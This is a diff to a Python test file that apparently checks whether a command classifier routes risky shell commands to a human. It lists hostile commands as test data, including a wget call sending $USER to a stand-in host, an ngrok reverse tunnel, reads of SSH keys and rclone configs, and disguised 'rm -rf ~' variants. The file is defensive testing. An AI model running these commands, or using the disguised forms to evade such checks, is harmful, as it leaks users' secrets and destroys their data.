@@ -771,6 +771,7 @@ def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
         ("ngrok http 8000", "reverse-tunnel"),
         ("wget https://x.example/?u=$USER", "exfiltration"),
         ("cat ~/.config/rclone/rclone.conf", "secret-read"),
+        ('echo "$(<~/.ssh/id_rsa)"', "secret-read"),  # $(< FILE) is $(cat FILE)
         # split strings, namerefs, attributes by name, less commands, password managers
         ("env -S 'rm -rf ~'", "rm-recursive-protected"),
         ('declare -n r=HOME; rm -rf "$r"', "rm-recursive-protected"),
